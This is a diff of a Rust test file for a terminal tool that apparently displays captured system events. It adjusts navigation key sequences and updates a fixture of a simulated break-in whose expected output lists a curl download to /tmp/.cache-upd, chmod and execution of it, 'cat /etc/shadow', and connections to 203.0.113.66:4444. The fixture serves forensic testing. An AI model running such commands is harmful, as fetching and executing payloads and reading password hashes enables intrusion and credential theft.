@@ -20,7 +20,7 @@ const SIZES: [&str; 3] = ["80x24", "120x40", "200x60"];
 
 /// The views with the keys that lead to them; what is selected is not the first row where that shows more.
 const VIEWS: [(&str, &str); 14] = [
-    ("Overview", "1<Down>"),
+    ("Overview", "1"),
     ("Events", "2<Down><Down>"),
     ("Processes", "3<Down>"),
     ("Files", "4"),
@@ -252,16 +252,16 @@ fn what_cannot_be_done_is_said() {
 
 /// The pictures of docs/view.md: what they are called and the keys that lead to them.
 const PICTURES: [(&str, &str); 8] = [
-    ("overview", "<Down>"),
-    ("shells", "<Down><Enter><Down>"),
-    ("descendants", "<Down><Enter><Down>D"),
-    ("connections", "<Down><Enter><Down>D5<Down>"),
-    ("echo", "<Down><Enter><Down>D5<Down>e"),
-    ("files", "<Down><Enter><Down>D4"),
-    ("tree", "<Down><Enter><Down>D3"),
+    ("overview", ""),
+    ("shells", "<Enter><Down>"),
+    ("descendants", "<Enter><Down>D"),
+    ("connections", "<Enter><Down>D5<Down>"),
+    ("echo", "<Enter><Down>D5<Down>e"),
+    ("files", "<Enter><Down>D4"),
+    ("tree", "<Enter><Down>D3"),
     (
         "detail",
-        "<Down><Enter><Down>D2:and evt.type=unlinkat<Enter><Enter>",
+        "<Enter><Down>D2:and evt.type=unlinkat<Enter><Enter>",
     ),
 ];
 
@@ -305,36 +305,27 @@ fn the_pictures_of_the_document_are_what_is_shown() {
 /// The steps of the break-in, each with the keys from the start and what they show.
 const STEPS: [(&str, &[&str]); 6] = [
     // A server starts shells.
-    ("<Down><Enter>", &["perl", "sh -c echo checking"]),
+    ("<Enter>", &["perl", "sh -c echo checking"]),
     // What the second of them led to: a download, made executable, executed, credentials read.
     (
-        "<Down><Enter><Down>D",
+        "<Enter><Down>D",
         &[
-            "curl -s -o /tmp/.cache-upd http://203.0.113.66/kit",
+            "curl -s -o /tmp/.cache-upd",
             "chmod 755 /tmp/.cache-upd",
             ".cache-upd /tmp/.cache-upd",
             "cat /etc/shadow",
             "uname -sm",
-            "rm -f /tmp/.f /tmp/.cache-upd",
+            "rm -f /tmp/.f",
         ],
     ),
     // Whom it talked to.
-    (
-        "<Down><Enter><Down>D5",
-        &["203.0.113.66:80", "203.0.113.66:4444"],
-    ),
+    ("<Enter><Down>D5", &["203.0.113.66:80", "203.0.113.66:4444"]),
     // What was sent there.
-    (
-        "<Down><Enter><Down>D5<Down>e",
-        &["written", "203.0.113.66:4444"],
-    ),
+    ("<Enter><Down>D5<Down>e", &["written", "203.0.113.66:4444"]),
     // What is left, or was: files made and removed.
-    ("<Down><Enter><Down>D4", &["/tmp/.cache-upd", "/tmp/.f"]),
+    ("<Enter><Down>D4", &["/tmp/.cache-upd", "/tmp/.f"]),
     // The removal itself.
-    (
-        "<Down><Enter><Down>D1<Down><Down><Down>",
-        &["files removed"],
-    ),
+    ("<Enter><Down>D1<Down><Down><Down>", &["files removed"]),
 ];
 
 #[test]
